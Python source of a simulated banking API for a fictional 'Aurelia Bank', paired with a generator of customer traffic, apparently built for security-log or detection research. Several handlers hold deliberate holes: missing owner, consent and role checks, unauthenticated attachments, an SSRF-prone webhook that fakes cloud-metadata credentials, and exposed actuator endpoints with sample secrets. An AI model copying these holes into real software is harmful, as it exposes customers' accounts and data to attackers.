    def sos(s, rq): return s.page(rq, [s.soview(n) for n in rq.c['sos']], 'standingOrders')
    @route('GET', '/api/v1/standing-orders/{id}')
    def so_(s, rq, n): return (200, s.soview(int(n))) if n.isdigit() and int(n) in rq.c['sos'] else s.nf(rq, 'Standing order', n)
    @route('POST', '/api/v1/standing-orders')
    def nso(s, rq):
        j = rq.json
        if not iban_ok(j.get('creditorIban', '')) or not s.mine(rq, j.get('debtorIban')): return s.invalid(rq, ('creditorIban', 'is not a valid IBAN'))
        n = s.nid('so', 4)
        s.so[n] = dict(id=n, cid=rq.c['cid'], debtorIban=j['debtorIban'], creditorIban=j['creditorIban'], creditorName=j.get('creditorName'), amount=j.get('amount'), interval=j.get('interval'), nextExecution=j.get('nextExecution'))
        rq.c['sos'].append(n); return 201, s.soview(n)
    @route('PUT', '/api/v1/standing-orders/{id}')
    def uso(s, rq, n):
        if not n.isdigit() or int(n) not in s.so:            # owner is not checked
            return s.nf(rq, 'Standing order', n)
        s.so[int(n)].update({k: v for k, v in rq.json.items() if k in ('creditorIban', 'creditorName', 'amount', 'interval', 'nextExecution')}); return 200, s.soview(int(n))
    @route('DELETE', '/api/v1/standing-orders/{id}')
    def dso(s, rq, n):
        if not n.isdigit() or int(n) not in rq.c['sos']: return s.nf(rq, 'Standing order', n)
        rq.c['sos'].remove(int(n)); s.so.pop(int(n)); return 204, None
    @route('GET', '/api/v1/loans')
    def loans(s, rq): return s.page(rq, [s.link(dict(loanNumber=n, amount=s.loan[n]['amount'], rate=s.loan[n]['rate']), f'/api/v1/loans/{n}') for n in rq.c['loans']], 'loans')
    @route('GET', '/api/v1/loans/{no}')
    def loan_(s, rq, n): return (200, s.link(dict(loanNumber=n, **{k: s.loan[n][k] for k in ('amount', 'rate', 'months')}), rq.path)) if n in rq.c['loans'] else s.nf(rq, 'Loan', n)
    @route('GET', '/api/v1/loans/{no}/schedule')
    def sched(s, rq, n):
        if n not in rq.c['loans']: return s.nf(rq, 'Loan', n)
        m = int(rq.q['months']) if rq.q.get('months', '').isdigit() else 12; l = s.loan[n]
        return Rs(200, dict(loanNumber=n, instalments=[dict(no=k + 1, amount=round(l['amount'] / l['months'], 2), interest=round(l['amount'] * l['rate'] / 1200, 2)) for k in range(min(m, 600))]), lat=.03 + min(8, m / 15000))
    @route('POST', '/api/v1/loans/quotes')
    def lquote(s, rq):
        j = rq.json
        if not isinstance(j.get('amount'), int) or not 1000 <= j['amount'] <= 80000: return s.invalid(rq, ('amount', 'must be between 1000 and 80000'))
        k = uid(s.rng); return Rs(201, dict(quoteId=k, amount=j['amount'], termMonths=j.get('termMonths'), annualRate=s.rng.choice([4.9, 5.4, 6.9]), validUntil=day(rq.now + 14 * DAY)), lat=.35)
    @route('GET', '/api/v1/messages')
    def msgs(s, rq): return s.page(rq, [s.link(dict(id=n, subject=s.msg[n]['subject'], read=s.msg[n]['read'], attachmentId=s.msg[n]['att']), f'/api/v1/messages/{n}') for n in rq.c['msgs'][::-1]], 'messages', 10)
    @route('GET', '/api/v1/messages/{id}')
    def msg_(s, rq, n):
        if not n.isdigit() or int(n) not in rq.c['msgs']: return s.nf(rq, 'Message', n)
        m = s.msg[int(n)]; m['read'] = True
        return 200, s.link(dict(id=m['id'], subject=m['subject'], sender=m['frm'], body='Guten Tag, ' + random.Random(n).choice(['your document is attached.', 'please note the new conditions.', 'thank you for your message.']), attachmentId=m['att']), rq.path)
    @route('POST', '/api/v1/messages')
    def nmsg(s, rq):
        if not rq.json.get('body'): return s.invalid(rq, ('body', 'must not be blank'))
        n = s.newmsg(rq.c, str(rq.json.get('subject', ''))[:80], frm=rq.c['cid']); s.newtask(rq.c, 'MESSAGE'); return 201, s.link(dict(id=n, state='SENT'), f'/api/v1/messages/{n}')
    @route('GET', '/api/v1/messages/unread-count')
    def unread(s, rq): return 200, dict(count=sum(not s.msg[m]['read'] for m in rq.c['msgs']))
    @route('GET', '/api/v1/attachments/{id}', auth='none')          # left in permitAll: no token is asked for
    def att_(s, rq, n):
        if not n.isdigit() or int(n) not in s.att: return s.nf(rq, 'Attachment', n)
        return Rs(200, b'%PDF-1.4\n' + random.Random(n).randbytes(1800 + int(n) % 900), {'Content-Disposition': f'inline; filename="{n}.pdf"'}, ct='application/pdf', lat=.09)
    # --- rewards, web hooks of business customers, consents
    @route('POST', '/api/v1/rewards/redemptions')
    def redeem(s, rq):
        k = str(rq.json.get('code', '')).upper()
        if k == 'WILLKOMMEN25':
            if s.bonus.get(rq.c['cid']): return s.problem(rq, 409, 'Conflict', 'The code was already redeemed')
            s.bonus[rq.c['cid']] = 1; s.acc[rq.c['accs'][0]]['bal'] += 25; return 201, dict(code=k, credited=25.0, currency='EUR')
        return (201, dict(code=k, credited=5.0, currency='EUR')) if k in s.codes else s.problem(rq, 422, 'Unprocessable Entity', 'The code is not valid')
    @route('PUT', '/api/v1/notifications/webhook')
    def hookset(s, rq):
        u = str(rq.json.get('url', ''))
        if not re.match(r'(https?|gopher|file|dict)://', u): return s.invalid(rq, ('url', 'must be a valid URL'))
        s.hook[rq.c['cid']] = u; return 200, dict(url=u, events=rq.json.get('events', []), active=True)
    @route('POST', '/api/v1/notifications/webhook/test')
    def hooktest(s, rq):
        u = s.hook.get(rq.c['cid'])
        if not u: return s.problem(rq, 409, 'Conflict', 'No webhook is configured')
        h = (urlsplit(u).hostname or '')
        if h.startswith('hooks.'): return Rs(200, dict(url=u, delivered=True, responseStatus=200, responseBody='{"ok":true}'), lat=.18)
        if '169.254.169.254' in u or h == '2852039166':
            return Rs(200, dict(url=u, delivered=True, responseStatus=200, responseBody='{"AccessKeyId":"ASIA4EXAMPLE7Q2","SecretAccessKey":"w9p0Yz","Token":"IQoJb3JpZ2luX2VjE"}' if 'iam' in u else 'ami-id\nhostname\niam/\nlocal-ipv4'), lat=.02)
        if h in ('localhost', '127.0.0.1', '[::1]', '::1') and ':8081' in u: return Rs(200, dict(url=u, delivered=True, responseStatus=200, responseBody='{"activeProfiles":["prod"],"propertySources":[{"name":"systemEnvironment"'), lat=.01)
        return Rs(502, dict(type='about:blank', title='Bad Gateway', status=502, detail=f'I/O error on POST request for "{u}": Connection refused', instance=rq.path), ct='application/problem+json', lat=s.rng.choice([.01, 3.0]))
    @route('GET', '/api/v1/consents')
    def cons(s, rq): return s.page(rq, [{k: v for k, v in c.items() if k != 'cid'} for c in s.consent.values() if c['cid'] == rq.c['cid']], 'consents')
    @route('POST', '/api/v1/consents/{id}/approval')
    def capprove(s, rq, k):
        c = s.consent.get(k)
        if not c or c['cid'] not in (None, rq.c['cid']): return s.nf(rq, 'Consent', k)
        c.update(cid=rq.c['cid'], status='valid', ibans=[i for i in rq.json.get('ibans', []) if i in rq.c['accs']]); return 200, dict(consentId=k, consentStatus='valid')
    @route('DELETE', '/api/v1/consents/{id}')
    def crevoke(s, rq, k):
        c = s.consent.get(k)
        if not c or c['cid'] != rq.c['cid']: return s.nf(rq, 'Consent', k)
        c['status'] = 'revokedByPsu'; return 204, None
    # --- open banking (third parties)
    def tppok(s, rq):
        c = s.consent.get(rq.h.get('consent-id', ''))
        if not c or c['tpp'] != rq.user: return None, Rs(401, {'tppMessages': [{'category': 'ERROR', 'code': 'CONSENT_UNKNOWN'}]})
        if c['status'] != 'valid': return None, Rs(401, {'tppMessages': [{'category': 'ERROR', 'code': 'CONSENT_EXPIRED' if c['status'] != 'received' else 'CONSENT_INVALID'}]})
        return c, None
    @route('POST', '/open-banking/v1/consents', auth='AISP|PISP')
    def oconsent(s, rq):
        k = uid(s.rng); s.consent[k] = dict(consentId=k, tpp=rq.user, cid=None, ibans=[], status='received', validUntil=day(rq.now + 90 * DAY))
        return 201, dict(consentId=k, consentStatus='received', _links=dict(scaRedirect=dict(href=f'https://banking.aureliabank.example/consent/{k}')))
    @route('GET', '/open-banking/v1/consents/{id}/status', auth='AISP|PISP')
    def ocstatus(s, rq, k): c = s.consent.get(k); return (200, dict(consentStatus=c['status'])) if c and c['tpp'] == rq.user else Rs(403, {'tppMessages': [{'category': 'ERROR', 'code': 'CONSENT_UNKNOWN'}]})
    @route('GET', '/open-banking/v1/accounts', auth='AISP|PISP')
    def oaccs(s, rq): c, e = s.tppok(rq); return e or (200, dict(accounts=[dict(iban=i, currency='EUR', product=s.acc[i]['kind']) for i in c['ibans']]))
    @route('GET', '/open-banking/v1/accounts/{iban}/transactions', auth='AISP|PISP')
    def otxs(s, rq, ib):
        c, e = s.tppok(rq)
        if e: return e
        a = s.acc.get(ib)              # that the consent covers the IBAN is not checked
        return (200, dict(account=dict(iban=ib), transactions=dict(booked=[s.tx(a, k, rq.now) for k in range(min(a['ntx'], 30))]))) if a else Rs(404, {'tppMessages': [{'category': 'ERROR', 'code': 'RESOURCE_UNKNOWN'}]})
    @route('POST', '/open-banking/v1/payments/sepa-credit-transfers', auth='PISP')
    def opay(s, rq):
        n = s.nid('ob', 9); s.obp[n] = dict(tpp=rq.user, t=rq.now, st='RCVD', **{k: rq.json.get(k) for k in ('debtorIban', 'creditorIban')})
        return 201, dict(paymentId=n, transactionStatus='RCVD', _links=dict(scaRedirect=dict(href=f'https://banking.aureliabank.example/pay/{n}')))
    @route('GET', '/open-banking/v1/payments/sepa-credit-transfers/{id}/status', auth='PISP')
    def opst(s, rq, n):
        p = s.obp.get(int(n)) if n.isdigit() else None
        return (200, dict(transactionStatus='ACSC' if rq.now - p['t'] > 70 else 'RCVD')) if p and p['tpp'] == rq.user else Rs(404, {'tppMessages': [{'category': 'ERROR', 'code': 'RESOURCE_UNKNOWN'}]})
    # --- staff and administration (internal zone)
    def cfull(s, c): return dict(customerNumber=c['cid'], givenName=c['given'], familyName=c['family'], email=c['email'], phone=c['tel'], birthDate=c['born'], segment=c['seg'], dailyLimit=c['limit'])
    @route('GET', '/staff/tasks', auth='STAFF')
    def tasks(s, rq):
        op = [t for t in s.task.values() if t['state'] == 'OPEN']
        while len(op) < 8: n = s.newtask(s.cust[s.rng.choice(list(s.cust))], s.rng.choice(['CALL', 'CALL', 'BRANCH_VISIT', 'RETURNED_MAIL', 'LOAN_REVIEW'])); op.append(s.task[n])
        return s.page(rq, [dict(id=t['id'], kind=t['kind'], customerNumber=t['cid']) for t in op[:25]], 'tasks')
    @route('GET', '/staff/tasks/{id}', auth='STAFF')
    def task_(s, rq, n):
        t = s.task.get(int(n)) if n.isdigit() else None
        if not t: return s.nf(rq, 'Task', n)
        t['state'] = 'CLAIMED'; return 200, dict(id=t['id'], kind=t['kind'], customerNumber=t['cid'], state=t['state'], assignee=rq.user)
    @route('POST', '/staff/tasks/{id}/completion', auth='STAFF')
    def taskdone(s, rq, n):
        t = s.task.get(int(n)) if n.isdigit() else None
        if not t: return s.nf(rq, 'Task', n)
        if t['state'] == 'DONE': return s.problem(rq, 409, 'Conflict', 'Task is already completed')
        t['state'] = 'DONE'; return 200, dict(id=t['id'], state='DONE')
    @route('GET', '/staff/customers', auth='STAFF')
    def scusts(s, rq): q = rq.q.get('search', '').lower(); v = [c for c in s.cust.values() if not q or q in c['family'].lower() or q in c['cid'] or q in c['email']]; return s.page(rq, [s.cfull(c) for c in v], 'customers')
    @route('GET', '/staff/customers/{cid}', auth='STAFF')
    def scust(s, rq, k): return (200, s.link(s.cfull(s.cust[k]), rq.path)) if k in s.cust else s.nf(rq, 'Customer', k)
    @route('GET', '/staff/customers/{cid}/accounts', auth='STAFF')
    def scaccs(s, rq, k): return s.page(rq, [s.accview(rq, a) for a in s.accs(s.cust[k])], 'accounts') if k in s.cust else s.nf(rq, 'Customer', k)
    @route('GET', '/staff/accounts/{iban}/transactions', auth='STAFF')
    def satx(s, rq, ib): return s.bookings(rq, s.acc[ib]) if ib in s.acc else s.nf(rq, 'Account', ib)
    @route('POST', '/staff/customers/{cid}/notes', auth='STAFF')
    def snote(s, rq, k): return (201, dict(id=s.rng.randint(10 ** 8, 10 ** 9), author=rq.user)) if k in s.cust else s.nf(rq, 'Customer', k)
    @route('POST', '/staff/customers/{cid}/unlock', auth='STAFF')
    def sunlock(s, rq, k):
        if k in s.cust: s.cust[k]['locked'] = False; s.wrong[k] = 0
        return 204, None
    @route('POST', '/staff/customers/{cid}/mandates', auth='STAFF')
    def smandate(s, rq, k):
        o, ib = s.cust.get(str(rq.json.get('attorney'))), rq.json.get('iban')
        if not o or ib not in s.acc: return s.invalid(rq, ('attorney', 'unknown customer'))
        s.acc[ib]['readers'].append(o['cid']); o.setdefault('poa', []).append(ib); return 201, dict(iban=ib, attorney=o['cid'])
    @route('PUT', '/staff/customers/{cid}/limits', auth='any')            # the role annotation was forgotten
    def slimit(s, rq, k):
        if k not in s.cust: return s.nf(rq, 'Customer', k)
        s.cust[k]['limit'] = rq.json.get('dailyLimit', 3000); return 200, dict(customerNumber=k, dailyLimit=s.cust[k]['limit'], changedBy=rq.user)
    @route('GET', '/admin/users', auth='ADMIN')
    def ausers(s, rq): return s.page(rq, [dict(id=e['id'], role=e['role']) for e in s.staff.values()], 'users')
    @route('POST', '/admin/users', auth='ADMIN')
    def anuser(s, rq): return 201, dict(id=rq.json.get('id'), role=rq.json.get('role'))
    @route('PUT', '/admin/users/{id}/roles', auth='ADMIN')
    def aroles(s, rq, k): return (200, dict(id=k, roles=rq.json.get('roles'))) if k in s.staff else s.nf(rq, 'User', k)
    @route('GET', '/admin/audit-events', auth='ADMIN|AUDIT')
    def aaudit(s, rq): r = random.Random(rq.url); ks = list(s.cust); return s.page(rq, [dict(id=k, actor=r.choice(list(s.staff)), action=r.choice(['VIEW', 'NOTE', 'LIMIT']), object=r.choice(ks)) for k in range(400)], 'auditEvents', 50)
    @route('PUT', '/admin/feature-flags/{key}', auth='ADMIN')
    def aflag(s, rq, k): s.flags[k] = rq.json.get('enabled'); return 200, dict(key=k, enabled=s.flags[k])
    @route('GET', '/internal/fraud/payments', auth='SVC')
    def fpay(s, rq): return s.page(rq, [dict({k: p[k] for k in ('id', 'debtorIban', 'creditorIban', 'amount', 'state')}, customerNumber=p['cid']) for p in list(s.pay.values())[-600:]], 'payments', 50)
    @route('POST', '/internal/fraud/scores', auth='SVC')
    def fscore(s, rq): return 202, dict(accepted=len(rq.json.get('scores', [])))
    @route('POST', '/internal/statements/runs', auth='SVC')
    def srun(s, rq): return 202, dict(executionId=s.rng.randint(1000, 9999), status='STARTED')
    # --- public, actuator, left-overs
    @route('GET', '/public/status', auth='none')
    def status(s, rq): return 200, dict(status='UP', banking='UP', cards='UP')
    @route('GET', '/public/branches', auth='none')
    def branches(s, rq): r = random.Random(rq.q.get('near', '')); return 200, dict(branches=[dict(id=r.randint(100, 180), city=r.choice(['Frankfurt', 'Koeln', 'Hamburg', 'Wien', 'Utrecht']), atm=True) for _ in range(5)])
    @route('GET', '/public/fx-rates', auth='none')
    def fx(s, rq): return 200, dict(base='EUR', rates=dict(USD=1.08, CHF=.96, GBP=.85, PLN=4.3))
    @route('GET', '/actuator/health', auth='none')
    def health(s, rq): return Rs(200, dict(status='UP', groups=['liveness', 'readiness']), ct='application/vnd.spring-boot.actuator.v3+json')
    @route('GET', '/actuator/prometheus', auth='none')
    def prom(s, rq):
        return Rs(200, ''.join(f'jvm_memory_used_bytes{{area="heap",id="G1 {k}"}} {s.rng.randint(10 ** 7, 10 ** 8)}\nhttp_server_requests_seconds_count{{outcome="{k}"}} {int(rq.now) % 10 ** 6}\n' for k in ('Eden', 'Old', 'Survivor')), ct='text/plain; version=0.0.4')
    @route('GET', '/actuator/env', auth='none')
    def env(s, rq):
        return Rs(200, dict(activeProfiles=['prod'], propertySources=[dict(name='systemEnvironment', properties={k: dict(value=v) for k, v in (('SPRING_DATASOURCE_URL', 'jdbc:postgresql://10.20.3.14:5432/core'), ('SPRING_DATASOURCE_PASSWORD', '******'), ('SMS_GATEWAY_KEY', 'sk_live_83hf01'), ('JWT_KID', 'aur-2026-06'))})]), ct='application/vnd.spring-boot.actuator.v3+json')
    @route('GET', '/actuator/loggers', auth='none')
    def loggers(s, rq): return Rs(200, dict(loggers={k: dict(effectiveLevel='INFO') for k in ('ROOT', 'com.aurelia.core', 'com.aurelia.sca', 'org.hibernate.SQL')}), ct='application/vnd.spring-boot.actuator.v3+json')
    @route('GET', '/actuator/heapdump', auth='none')
    def heap(s, rq): return Rs(200, b'JAVA PROFILE 1.0.2\0' + s.rng.randbytes(24000), ct='application/octet-stream', lat=2.5)
    @route('GET', '/mobile/v0/customers/{cid}/overview', auth='none')
    def zombie(s, rq, k):
        if rq.h.get('x-api-key') != s.zkey: return s.spring(rq, 401)
        c = s.cust.get(k); return (200, dict(customer=s.cfull(c), accounts=[dict(iban=a['iban'], balance=round(a['bal'], 2)) for a in s.accs(c)])) if c else s.spring(rq, 404)
    @route('GET', '/api/v1/beta/insights/{cid}', auth='none')
    def insights(s, rq, k):
        if not s.beta or rq.now < s.beta: return s.spring(rq, 404)
        c = s.cust.get(k); r = random.Random(k); return (200, dict(customerNumber=k, monthlyIncome=r.randint(1200, 7000), topMerchants=r.sample(SHOPS, 4), churnScore=round(r.random(), 2), debug=True)) if c else s.spring(rq, 404)


V4 = ['84.160', '91.12', '79.192', '217.224', '90.26', '86.210', '83.45', '77.161', '80.109', '83.8', '151.38', '89.12', '178.26']
V6 = ['2003:c0:8f', '2a02:8109:9a', '2a01:cb00:62', '2a02:a45c:3', '2a01:e0a:55']
PHONES = [('Android 14; SM-S911B', 'okhttp/4.12.0'), ('Android 13; M2101K6G', 'okhttp/4.12.0'), ('iPhone; iOS 17.5', IPHONE), ('iPhone; iOS 16.7', IPHONE), ('Android 14; Pixel 8', 'okhttp/4.12.0')]
AV, EDGE = '/api/v1', WEB[0] + ' Edg/124.0.2478.67'


class World:
    """what actors share: the simulation, the application, people, and the ways of calling"""
    def __init__(w, S, app):
        w.S, w.app, w.r, w.st = S, app, S.rng, S.start; w.cg = [f'{a}.{w.r.randint(0, 255)}.{w.r.randint(1, 254)}' for a in ('109.40', '92.211', '176.83', '80.187', '37.160') for _ in range(7)]; w.sms = (S.local(11, 17), S.local(11, 20))
    def move(w, cl, ip):
        if cl.ip != ip:
            if cl.conn: w.S.close(cl.conn)
            cl.conn, cl.ip = None, ip
    def addr(w, v6=None):
        r = w.r
        if (r.random() < .3) if v6 is None else v6: return f'{r.choice(V6)}{r.randint(0, 15):x}:{r.randint(16, 65000):x}'
        return f'{r.choice(V4)}.{r.randint(0, 255)}.{r.randint(1, 254)}'
    def full(w, a): return w.home(dict(home=a, cid=a))
    def home(w, u):
        h = u['home']
        if ':' not in h: return h
        d = random.Random(f'{u["cid"]}{int((w.S.now - w.st) // DAY)}')       # privacy extensions: a new interface id a day
        return f'{h}:{d.randint(1, 65535):x}:{d.randint(1, 65535):x}:{d.randint(1, 65535):x}:{d.randint(1, 65535):x}'
    def phone(w, ver='5.8.1', ip='0', ident=None, k=None, **x):
        d = w.r.choice(PHONES) if k is None else PHONES[k % 5]; cl = Client(ip, f'AureliaBank/{ver} ({d[0]}) {d[1]}', ident, headers={'X-App-Version': ver, 'X-Device-Id': uid(w.r)}, **x); cl.dev = d; return cl
    def equip(w, u, i):
        r = w.r
        u.update(home=w.addr(), rate=min(2.2, r.lognormvariate(-1.5, .9)), forget=False, office=None, away=None, mob=r.choice([.15, .3, .5]), upd=w.st + (10.2 + r.expovariate(.45)) * DAY, login=r.choice([u['cid'], u['cid'], u['email']]))
        u['phone'] = w.phone('5.9.0' if w.S.now > w.st + 11 * DAY else '5.8.1', w.home(u), u['cid'], i)
        u['web'] = Client(w.home(u), r.choice(WEB), u['cid'], headers={'Origin': 'https://banking.aureliabank.example', 'Referer': 'https://banking.aureliabank.example/'}); u['webby'] = r.choice([0, .1, .3, .9])
        for cl in (u['phone'], u['web']): cl.exp, cl.rt = 0, None
        return u
    # --- calls
    def take(w, cl, rs):
        if rs.st == 200 and isinstance(rs.body, dict) and 'access_token' in rs.body: cl.h['Authorization'], cl.exp, cl.rt = 'Bearer ' + rs.body['access_token'], w.S.now + 900, rs.body.get('refresh_token'); return True
    def login(w, cl, u, pw=None, **k):
        staff = 'role' in u
        return w.take(cl, w.S.call(cl, 'POST', '/auth/staff/token' if staff else '/auth/token', js=dict(username=u['id'] if staff else u['login'], password=pw or u['pw']), h={'Authorization': None}, ident=u['id'] if staff else u['cid'], **k))
    def refresh(w, cl, **k): return w.take(cl, w.S.call(cl, 'POST', '/auth/refresh', js=dict(refresh_token=cl.rt), h={'Authorization': None}, **k))
    def api(w, cl, m, url, **k):
        lab = {x: k[x] for x in ('ep', 'dc') if x in k}
        if cl.rt and w.S.now > cl.exp - 15 and (cl.rt[0] < 'h' or w.S.now < cl.exp): w.refresh(cl, **lab)
        if 'X-App-Version' in cl.h: k['h'] = dict(k.get('h') or {}, **{'X-Request-ID': uid(w.r)})
        if '/api/v2/' in url and not cl.dc: k.setdefault('dc', 'D-newver')
        rs = w.S.call(cl, m, url, **k)
        if rs.st == 401 and cl.rt and w.refresh(cl, **lab): rs = w.S.call(cl, m, url, **k)
        return rs
    def enter(w, cl, u, web):
        r, S = w.r, w.S
        if cl.rt and not web:
            n = 0
            while not (S.now < cl.exp - 60 or w.refresh(cl, **({'dc': 'D-outage'} if n else {}))) and n < 5:
                n += 1
                if not any(a <= S.now < b for a, b in w.app.down): break
                yield 3 * 2 ** n
            if S.now < cl.exp: return
        cl.h.pop('Authorization', None); cl.rt = None
        for _ in range(r.randint(2, 6) if u['forget'] and r.random() < .5 else int(r.random() < .06)):
            w.login(cl, u, r.choice([u['pw'][:-1], u['pw'].lower(), u['pw'] + '1']), **({'dc': 'D-forget'} if u['forget'] else {})); yield r.uniform(6, 30)
        n = 0
        while not w.login(cl, u, **({'dc': 'D-outage'} if n else {})) and n < 5:
            n += 1
            if u['locked']: S.spawn(S.now + r.uniform(1200, 9000), w.unlock(u)); return
            yield 3 * 2 ** n
    def unlock(w, u):
        e = next((e for e in w.agents if e.get('on')), w.agents[0])
        if not e['cl'].rt: w.login(e['cl'], e)
        w.api(e['cl'], 'GET', f'/staff/customers?search={u["cid"]}'); yield 20; w.api(e['cl'], 'POST', f'/staff/customers/{u["cid"]}/unlock', js={})
    def pay(w, cl, u, debtor, iban, name, amount, check=False, **k):
        r, S = w.r, w.S; A = lambda m, q, **x: w.api(cl, m, q, **k, **x)
        if check: A('POST', AV + '/payee-verifications', js=dict(iban=iban, name=name)); yield r.uniform(4, 15)
        key = uid(r); body = dict(debtorIban=debtor, creditorIban=iban, creditorName=name, amount=amount, currency='EUR', remittance=r.choice(['Rechnung', 'Miete Juni', 'Danke!', f'RE-{r.randint(1000, 9999)}', '']))
        if r.random() < .04: A('POST', AV + '/payments', js=dict(body, creditorIban=iban[:-1] + 'X'))
        p = A('POST', AV + '/payments', js=body, h={'Idempotency-Key': key})
        if p.st == 422 and amount > 500: yield 12; p = A('POST', AV + '/payments', js=dict(body, amount=min(amount, u['limit'])), h={'Idempotency-Key': key})
        if p.st != 201: return
        if r.random() < .04: A('POST', AV + '/payments', js=body, h={'Idempotency-Key': key})
        n, lost = p.body['id'], w.sms[0] < S.now < w.sms[1]
        if p.body['scaRequired']:
            ok = False
            for _ in range(r.randint(2, 5) if lost else 1):
                x = dict(dc='D-sms') if lost and 'dc' not in k else {}; ch = A('POST', f'{AV}/payments/{n}/tan-requests', js={}, **x)
                if ch.st != 202: return
                yield r.lognormvariate(2.9, .4) * (4 if lost else 1); c, tan = ch.body['challengeId'], w.app.ch[ch.body['challengeId']]['tan']
                for _ in range((r.randint(0, 3) if lost else int(r.random() < .07))):
                    A('POST', f'{AV}/payments/{n}/authorisations', js=dict(challengeId=c, tan=f'{r.randint(0, 999999):06}' if lost else tan[:4] + tan[5] + tan[4]), **x); yield r.uniform(8, 25)
                if not lost or r.random() < .15: ok = A('POST', f'{AV}/payments/{n}/authorisations', js=dict(challengeId=c, tan=tan)).st == 200; break
            if not ok: return
        yield r.uniform(.3, 2); A('POST', f'{AV}/payments/{n}/execution', js={}); yield r.uniform(1, 4); A('GET', f'{AV}/payments/{n}')
        if r.random() < .3: A('GET', f'{AV}/payments/{n}/receipt')
    def acts(w, cl, u, n, new=False):
        r, S, app = w.r, w.S, w.app; A = lambda m, q, **x: w.api(cl, m, q, **x)
        for _ in range(n):
            yield r.lognormvariate(2, .8); x, ibs = r.random(), u['accs'] + u.get('poa', []); ib = r.choice(ibs); dc = {'dc': 'D-poa'} if ib in u.get('poa', []) else {}
            if x < .26:
                if new:
                    t = A('GET', f'{AV[:-1]}2/accounts/{ib}/transactions', **dc)
                    if t.st == 200 and t.body['nextCursor'] and r.random() < .35: yield 6; A('GET', f'{AV[:-1]}2/accounts/{ib}/transactions?cursor={t.body["nextCursor"]}', **dc)
                else:
                    for p in range(r.choice([1, 1, 1, 2, 3])): A('GET', f'{AV}/accounts/{ib}/transactions?page={p}&size=20&sort=bookingDate,desc', **dc); yield r.uniform(3, 15)
            elif x < .31: A('GET', f'{AV}/accounts/{ib}/transactions?search={quote(r.choice(SHOPS + ["Miete", "O" + chr(39) + chr(39) + "Neill", "Gehalt"]))}&page=0&size=20', **dc)
            elif x < .41:
                l = A('GET', f'{AV}/accounts/{ib}/statements?page=0&size=12', **dc); v = l.body.get('_embedded', {}).get('statements', []) if l.st == 200 else []
                for d in v[:r.choice([1, 1, 2, 3])]:
                    yield r.uniform(3, 10); bad = any(a <= S.now < b for _, a, b in app.fail)
                    for _ in range(r.randint(2, 4) if bad else 1): A('GET', f'{AV}/accounts/{ib}/statements/{d["id"]}', **({'dc': 'D-fail'} if bad else dc)); yield r.uniform(2, 12)
            elif x < .57:
                b = A('GET', AV + '/beneficiaries'); yield r.uniform(3, 12); v = b.body.get('_embedded', {}).get('beneficiaries', []) if b.st == 200 else []; y, amt = r.random(), round(r.lognormvariate(4.3, 1.1), 2)
                if y < .7 and v:
                    t = r.choice(v)
                    if r.random() < .3: A('GET', f'{AV}/beneficiaries/{t["id"]}')
                    yield from w.pay(cl, u, u['accs'][0], t['iban'], t['name'], amt)
                elif y < .8 and len(u['accs']) > 1: yield from w.pay(cl, u, u['accs'][0], u['accs'][1], u['given'] + ' ' + u['family'], amt)
                else:
                    o = app.cust[r.choice(w.active)['cid']]; nm = f'{o["given"]} {o["family"]}' if r.random() < .7 else o['family']; yield from w.pay(cl, u, u['accs'][0], o['accs'][0], nm, amt, True)
                    A('POST', AV + '/beneficiaries', js=dict(iban=o['accs'][0], name=nm))
            elif x < .63:
                v = A('GET', AV + '/payments?page=0&size=10').body; v = v.get('_embedded', {}).get('payments', []) if isinstance(v, dict) else []
                for p in r.sample(v, min(len(v), r.choice([1, 1, 2]))):
                    yield r.uniform(3, 12); A('GET', f'{AV}/payments/{p["id"]}')
                    if r.random() < .3: A('GET', f'{AV}/payments/{p["id"]}/receipt')
                if u['bens'] and r.random() < .12:
                    o = r.choice(u['bens']); A('DELETE', f'{AV}/beneficiaries/{o}')
                    if r.random() < .3: A('GET', f'{AV}/beneficiaries/{o}')
            elif x < .68:
                v = A('GET', AV + '/standing-orders').body; v = v.get('_embedded', {}).get('standingOrders', []) if isinstance(v, dict) else []; yield r.uniform(4, 20)
                if v and r.random() < .4:
                    o = r.choice(v); A('GET', f'{AV}/standing-orders/{o["id"]}'); yield r.uniform(8, 30)
                    A('PUT', f'{AV}/standing-orders/{o["id"]}', js=dict({z: o[z] for z in ('creditorIban', 'creditorName', 'interval', 'nextExecution')}, amount=r.choice([30, 60, 150, 900])))
                elif v and r.random() < .15: A('DELETE', f'{AV}/standing-orders/{r.choice(v)["id"]}')
                elif u['bens'] and r.random() < .25: A('POST', AV + '/standing-orders', js=dict(debtorIban=u['accs'][0], creditorIban=app.ben[u['bens'][0]]['iban'], creditorName=app.ben[u['bens'][0]]['name'], amount=50, interval='MONTHLY', nextExecution='2026-07-15'))
            elif x < .76 and u['cards']:
                k = r.choice(u['cards']); A('GET', AV + '/cards'); yield 4; A('GET', f'{AV}/cards/{k}')
                if r.random() < .15: A('POST', f'{AV}/cards/{k}/block', js=dict(reason=r.choice(['LOST', 'TEMPORARY']))); yield r.uniform(20, 200); A('POST', f'{AV}/cards/{k}/unblock', js={})
                elif r.random() < .2: A('PUT', f'{AV}/cards/{k}/limits', js=dict(dailyLimit=r.choice([500, 2000, 5000, 8000])))
            elif x < .88:
                if r.random() < .05: A('GET', f'{AV}/messages/{r.randint(919000000, 919999999)}')      # push link to a purged message
                v = A('GET', AV + '/messages?page=0&size=10').body; v = v.get('_embedded', {}).get('messages', []) if isinstance(v, dict) else []
                for g in v[:r.choice([1, 1, 2])]:
                    yield r.uniform(3, 15); A('GET', f'{AV}/messages/{g["id"]}')
                    if g['attachmentId'] and r.random() < .6: A('GET', f'{AV}/attachments/{g["attachmentId"]}')
                if r.random() < .12: A('POST', AV + '/messages', js=dict(subject=r.choice(['Frage zur Karte', 'Termin', 'Adress\u00e4nderung']), body=r.choice(['Guten Tag, bitte rufen Sie mich an.', "J'ai une question: co\u00fbt du virement <SEPA>?", ''])))
            elif x < .92 and u['loans']: A('GET', AV + '/loans'); yield 5; A('GET', f'{AV}/loans/{u["loans"][0]}'); A('GET', f'{AV}/loans/{u["loans"][0]}/schedule?months={r.choice([12, 24, 60])}')
            elif x < .94: A('POST', AV + '/loans/quotes', js=dict(amount=r.choice([500, 5000, 10000, 25000]), termMonths=r.choice([36, 60])))
            elif x < .97:
                A('GET', AV + '/customers/me')
                if r.random() < .4: A('PATCH', AV + '/customers/me', js=r.choice([dict(phone=f'+49 151 {r.randint(1000000, 9999999)}'), dict(language=r.choice(['de', 'en', 'fr'])), dict(marketingConsent=False)]))
            elif x < .98: A('POST', AV + '/rewards/redemptions', js=dict(code=r.choice(sorted(app.codes)) if r.random() < .6 else 'SOMMER26'))
            elif x < .99: A('GET', AV + '/consents')
